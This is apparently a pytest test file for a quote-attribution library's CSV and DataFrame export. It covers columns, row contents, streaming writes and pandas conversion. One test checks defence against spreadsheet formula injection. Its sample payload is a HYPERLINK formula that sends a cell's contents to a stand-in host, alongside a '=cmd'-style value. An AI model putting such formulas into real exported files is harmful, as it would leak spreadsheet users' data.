import csv
import io
import sys

import pytest
from text_spans import offsets as at

from quoteattr.outputs.tables import CSV_COLUMNS, rows, to_dataframe, write_csv
from quoteattr.schema import Article, Attribution, SchemaError, Span, Speaker

TEXT = 'Jo said "we will win" and, later, "not today," she added.\nRain falls, says the sky.'


def span(s: str, n: int = 0) -> Span:
    return Span.of(TEXT, *at(TEXT, s, n))


ATTRIBUTIONS = [
    Attribution(
        quote=(span('"not today,"'), span('"we will win"')),  # sorted by the schema
        cue=span("said"),
        speaker=Speaker(*at(TEXT, "Jo"), "Jo", resolved="Jo Bloggs", entity=3),
        score=0.912345,
        cue_score=0.5,
        speaker_score=0.25,
    ),
    Attribution(quote=(span("Rain falls"),), score=0.4, type="indirect"),
]


def test_columns_are_the_documented_ones():
    assert CSV_COLUMNS == (
        "id", "attribution", "type", "quote", "quote_start", "quote_end", "cue", "cue_start",
        "cue_end", "speaker", "speaker_start", "speaker_end", "speaker_resolved",
        "speaker_entity", "speaker_inferred", "speaker_kind", "speaker_gender",
        "speaker_gender_from", "score", "quote_score", "cue_score",
        "speaker_score",
    )  # fmt: skip


def test_rows_join_pieces_and_fill_none():
    first, second = rows([("doc1", ATTRIBUTIONS)])
    assert list(first) == list(CSV_COLUMNS)
    assert first["quote"] == '"we will win" … "not today,"'
    assert (first["quote_start"], first["quote_end"]) == (at(TEXT, '"we')[0], at(TEXT, ',"')[1])
    assert (first["cue"], first["cue_start"], first["cue_end"]) == ("said", 3, 7)
    assert first["speaker"] == "Jo" and (first["speaker_start"], first["speaker_end"]) == (0, 2)
    assert (first["speaker_resolved"], first["speaker_entity"]) == ("Jo Bloggs", 3)
    assert first["speaker_inferred"] is False
    assert (first["score"], first["quote_score"]) == (0.9123, 0.9123)
    assert (first["cue_score"], first["speaker_score"]) == (0.5, 0.25)
    assert (first["id"], first["attribution"], first["type"]) == ("doc1", 0, "direct")
    assert second["attribution"] == 1 and second["type"] == "indirect"
    for column in CSV_COLUMNS[6:15] + ("cue_score", "speaker_score"):
        assert second[column] is None, column


def test_rows_take_dicts_articles_and_restart_the_index_per_article():
    dicts = [a.to_dict() for a in ATTRIBUTIONS]
    from_dicts = list(rows([("a", dicts), Article("b", TEXT, tuple(ATTRIBUTIONS))]))
    assert [(r["id"], r["attribution"]) for r in from_dicts] == [("a", 0), ("a", 1)] + [
        ("b", 0),
        ("b", 1),
    ]
    from_objects = list(rows([("a", ATTRIBUTIONS)]))
    assert from_dicts[:2] == from_objects


def test_a_bad_attribution_names_its_article_and_index():
    bad = [ATTRIBUTIONS[0].to_dict(), {"quote": [{"start": 0, "end": 5, "text": "Jo"}]}]
    with pytest.raises(SchemaError, match=r"article 'doc7', attribution 1: span \[0, 5\)"):
        list(rows([("doc7", bad)]))
    with pytest.raises(TypeError, match="an \\(id, attributions\\) pair"):
        list(rows(["doc7"]))


def test_write_csv_streams_with_one_header_and_reads_back():
    out = io.StringIO()
    multiline = Attribution(quote=(Span.of(TEXT, at(TEXT, "she added.")[0], len(TEXT) - 5),))
    seen_before_second = []

    def records():
        yield "first", ATTRIBUTIONS
        seen_before_second.append(out.getvalue())  # written already, not at the end
        yield "second", [multiline]
        yield "empty", []

    assert write_csv(records(), out) == 3
    assert seen_before_second[0].count("\n") == 3  # header and two rows
    assert out.getvalue().count("id,attribution,type") == 1
    back = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["id"] for r in back] == ["first", "first", "second"]
    assert back[0]["quote"] == '"we will win" … "not today,"'
    assert back[1]["cue"] == "" and back[1]["speaker_entity"] == ""
    assert back[2]["quote"] == "she added.\nRain falls, says the"


def test_write_csv_without_articles_writes_the_header():
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue() == ",".join(CSV_COLUMNS) + "\n"


def test_to_dataframe_from_predict_output_and_pairs():
    pd = pytest.importorskip("pandas", reason="pandas is optional (pip install pandas)")
    predicted = [ATTRIBUTIONS, [], ATTRIBUTIONS[1:]]  # what QuoteAttributor.predict returns
    frame = to_dataframe(predicted)
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert frame["id"].tolist() == [0, 0, 2]
    assert frame["quote"][0] == '"we will win" … "not today,"'
    assert str(frame["cue_start"].dtype) == "Int64" and frame["cue_start"].tolist()[:1] == [3]
    assert frame["cue_start"].isna().tolist() == [False, True, True]
    assert frame["speaker_inferred"].tolist()[0] is False and pd.isna(frame["speaker_inferred"][1])
    assert frame["cue_score"].isna().tolist() == [False, True, True]
    named = to_dataframe(predicted, ids=["x", "y", "z"])
    assert named["id"].tolist() == ["x", "x", "z"]
    pairs = to_dataframe([("p", ATTRIBUTIONS), ("q", [a.to_dict() for a in ATTRIBUTIONS])])
    assert pairs["id"].tolist() == ["p", "p", "q", "q"]
    assert pairs.iloc[:2, 1:].equals(pairs.iloc[2:, 1:].reset_index(drop=True))
    assert to_dataframe([]).columns.tolist() == list(CSV_COLUMNS)
    with pytest.raises(ValueError, match="2 ids for 3 articles"):
        to_dataframe(predicted, ids=["x", "y"])


def test_to_dataframe_without_pandas_says_how_to_install_it(monkeypatch):
    monkeypatch.setitem(sys.modules, "pandas", None)  # makes `import pandas` fail
    with pytest.raises(ImportError, match=r"to_dataframe needs pandas.*quoteattr\[tables\]"):
        to_dataframe([ATTRIBUTIONS])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_csv_cells_that_a_spreadsheet_would_run_are_defused(start):
    text = f'{start}HYPERLINK("http://x.test/?"&A1,"click"), said {start}cmd.'
    quote_end = text.index(", said")
    speaker_start = text.index(start + "cmd")
    attribution = Attribution(
        quote=(Span.of(text, 0, quote_end),),
        cue=Span.of(text, quote_end + 2, quote_end + 6),
        speaker=Speaker(speaker_start, speaker_start + 4, f"{start}cmd", resolved=f"{start}cmd"),
    )
    out = io.StringIO(newline="")
    write_csv([(f"{start}1+1", [attribution])], out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for column in ("id", "quote", "speaker", "speaker_resolved"):
        assert row[column].startswith("'" + start), column
    assert row["quote"][1:] == text[:quote_end]
    assert row["cue"] == "said"  # nothing else changes
    assert row["quote_start"] == "0" and row["speaker_start"] == str(speaker_start)
    # A DataFrame is no spreadsheet: its text is kept as it is.
    pytest.importorskip("pandas")
    assert to_dataframe([(f"{start}1+1", [attribution])])["quote"][0] == text[:quote_end]


def test_a_quote_with_a_carriage_return_stays_in_its_cell():
    text = "“We will\r\nwin,” she said.\r\n"
    attribution = Attribution(quote=(Span.of(text, 0, 15),))
    out = io.StringIO(newline="")
    write_csv([("crlf", [attribution]), ("next", [attribution])], out)
    assert '"crlf","0"' in out.getvalue()  # quoted: a spreadsheet keeps the row whole
    got = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["id"] for r in got] == ["crlf", "next"]
    assert got[0]["quote"] == text[:15] and got[0]["cue"] == ""
